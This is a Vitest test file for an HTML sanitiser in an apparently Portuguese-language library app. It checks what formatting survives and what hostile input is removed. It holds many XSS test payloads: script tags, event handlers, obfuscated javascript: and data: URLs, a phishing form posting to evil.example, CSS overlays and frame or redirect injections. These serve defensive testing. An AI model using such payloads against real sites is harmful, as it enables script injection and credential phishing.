// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../src/lib/html/sanitize-html';

/** The sanitised HTML as a DOM, to ask what survived rather than compare strings. */
function clean(html: string): HTMLElement {
  const container = document.createElement('div');
  // jsdom has no Trusted Types: the result is a string here.
  container.innerHTML = sanitizeHtml(html) as string;
  return container;
}

const tagsOf = (root: HTMLElement) =>
  [...root.querySelectorAll('*')].map((element) => element.localName);
const attributesOf = (root: HTMLElement) =>
  [...root.querySelectorAll('*')].flatMap((element) =>
    element.getAttributeNames().map((name) => `${element.localName}[${name}]`),
  );

describe('sanitizeHtml: what institution text keeps', () => {
  it('keeps the formatting of a page of text', () => {
    const html =
      '<h2>Horários</h2><p>Abrimos <strong>todos</strong> os <b>dias</b>, <em>exceto</em> ' +
      '<i>feriados</i> e <u>recessos</u>.<br>Veja:</p><ul><li>um</li></ul><ol><li>dois</li></ol>' +
      '<blockquote><span>citação</span></blockquote><div><h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6></div>' +
      '<table><caption>Tabela</caption><thead><tr><th scope="col">Dia</th></tr></thead>' +
      '<tbody><tr><td colspan="2" rowspan="1">Seg</td></tr></tbody><tfoot><tr><td>x</td></tr></tfoot></table>';
    const root = clean(html);
    expect(tagsOf(root)).toEqual([
      'h2',
      'p',
      'strong',
      'b',
      'em',
      'i',
      'u',
      'br',
      'ul',
      'li',
      'ol',
      'li',
      'blockquote',
      'span',
      'div',
      'h3',
      'h4',
      'h5',
      'h6',
      'table',
      'caption',
      'thead',
      'tr',
      'th',
      'tbody',
      'tr',
      'td',
      'tfoot',
      'tr',
      'td',
    ]);
    expect(root.querySelector('th')?.getAttribute('scope')).toBe('col');
    expect(root.querySelector('td')?.getAttribute('colspan')).toBe('2');
    expect(root.textContent).toContain('Abrimos todos os dias, exceto feriados e recessos.');
  });

  it('keeps http(s), same-site, mailto and tel links, each with rel="noopener noreferrer"', () => {
    const root = clean(
      '<a href="https://ufx.example.org/biblioteca" title="Site">site</a>' +
        '<a href="http://ufx.example.org">http</a>' +
        '<a href="/acervo/7">título</a>' +
        '<a href="#horario">horário</a>' +
        '<a href="mailto:bc@ufx.example.org">e-mail</a>' +
        '<a href="tel:+554837210000">telefone</a>',
    );
    const links = [...root.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://ufx.example.org/biblioteca',
      'http://ufx.example.org',
      '/acervo/7',
      '#horario',
      'mailto:bc@ufx.example.org',
      'tel:+554837210000',
    ]);
    for (const link of links) expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(links[0]?.getAttribute('title')).toBe('Site');
  });

  it('keeps an image from http(s) or this site, with its alternative text', () => {
    const root = clean(
      '<img src="https://cdn.ufx.example.org/banner.png" alt="Banner"><img src="/logo.png" alt="">',
    );
    expect(
      [...root.querySelectorAll('img')].map((img) => [img.getAttribute('src'), img.alt]),
    ).toEqual([
      ['https://cdn.ufx.example.org/banner.png', 'Banner'],
      ['/logo.png', ''],
    ]);
  });

  it('gives a target=_blank link the rel that cuts the opener, and no target (the app opens none)', () => {
    const link = clean('<a target="_blank" href="https://x.example">x</a>').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://x.example');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.hasAttribute('target')).toBe(false);
    // A rel of the server's own is replaced, not merged: `opener` would undo noopener.
    expect(clean('<a rel="opener" href="https://x.example">x</a>').querySelector('a')?.rel).toBe(
      'noopener noreferrer',
    );
  });
});

describe('sanitizeHtml: what a hostile payload loses', () => {
  it('drops scripts and every event handler', () => {
    const root = clean(
      '<p>a</p><script>alert(1)</script><img src="https://x.example/i.png" onerror="alert(1)">' +
        '<svg onload="alert(1)"><circle></circle></svg><math><mi>x</mi></math>' +
        '<p onclick="alert(1)" onmouseover="alert(1)">b</p><a href="https://x.example" onfocus="alert(1)">c</a>',
    );
    expect(tagsOf(root)).toEqual(['p', 'img', 'p', 'a']);
    expect(attributesOf(root)).toEqual(['img[src]', 'a[href]', 'a[rel]']);
    expect(root.innerHTML).not.toMatch(/alert|script|svg|math/i);
  });

  it.each([
    ['javascript:', 'javascript:alert(1)'],
    ['mixed case', 'JaVaScRiPt:alert(1)'],
    ['leading space and tab inside', ' java\tscript:alert(1)'],
    ['newline inside', 'java\nscript:alert(1)'],
    ['entity-encoded', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'],
    [
      'hex entities without semicolons',
      '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
    ],
    ['named entity colon', 'javascript&colon;alert(1)'],
    ['data: HTML', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['DATA: mixed case', 'DaTa:text/html,<script>alert(1)</script>'],
    ['vbscript:', 'vbscript:msgbox(1)'],
    ['unknown protocol', 'intent://evil#Intent;end'],
  ])('removes a %s href, keeping the link text', (_name, href) => {
    const link = clean(`<a href="${href.replace(/"/g, '&quot;')}">clique</a>`).querySelector('a');
    expect(link?.hasAttribute('href')).toBe(false);
    expect(link?.textContent).toBe('clique');
  });

  it.each([
    ['javascript:', 'javascript:alert(1)'],
    ['data: image', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'],
    ['mailto:', 'mailto:x@y.example'],
  ])('removes a %s image source', (_name, src) => {
    expect(clean(`<img src="${src}" alt="x">`).querySelector('img')?.hasAttribute('src')).toBe(
      false,
    );
  });

  it('drops <style> and every style attribute (no overlay over the app)', () => {
    const root = clean(
      '<p>a</p><style>body{pointer-events:none} a{position:fixed;inset:0}</style>' +
        '<div style="position:fixed;inset:0;z-index:9999;opacity:0"><a href="https://evil.example">x</a></div>' +
        '<span style="background:url(https://evil.example/t.png)">y</span>',
    );
    expect(tagsOf(root)).toEqual(['p', 'div', 'a', 'span']);
    expect(root.querySelector('[style]')).toBeNull();
    expect(root.textContent).not.toMatch(/position|pointer-events/);
  });

  it('drops a phishing form with its password input, buttons and wording', () => {
    const root = clean(
      '<p>Aviso</p><form action="//evil.example/steal" method="post">Sua sessão expirou, entre de novo:' +
        '<input name="u"><input type="password" name="p"><textarea>t</textarea>' +
        '<select><option>o</option></select><button formaction="//evil.example">Entrar</button></form>' +
        '<input type="password"><button>Solto</button>',
    );
    expect(tagsOf(root)).toEqual(['p']);
    expect(root.textContent).toBe('Aviso');
  });

  it('drops frames, embeds and what changes the page itself', () => {
    const root = clean(
      '<p>a</p><iframe srcdoc="<script>alert(1)</script>" src="https://evil.example"></iframe>' +
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">' +
        '<meta http-equiv="refresh" content="0;url=https://evil.example">' +
        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">' +
        '<h1>Título falso</h1>',
    );
    expect(tagsOf(root)).toEqual(['p']);
    // A heading outside the allowlist keeps its text, as plain text.
    expect(root.textContent).toBe('aTítulo falso');
  });

  it('drops class, id, name, data-* and aria-* (the app styles, labels and announces through them)', () => {
    const root = clean(
      '<p class="Modal_overlay__x" id="faq" name="x" data-pressed="true" aria-hidden="true" ' +
        'aria-live="assertive" role="alert" dir="rtl" lang="en">a</p>',
    );
    expect(attributesOf(root)).toEqual([]);
  });

  it('gives nothing back for nothing', () => {
    expect(sanitizeHtml('')).toBe('');
  });
});
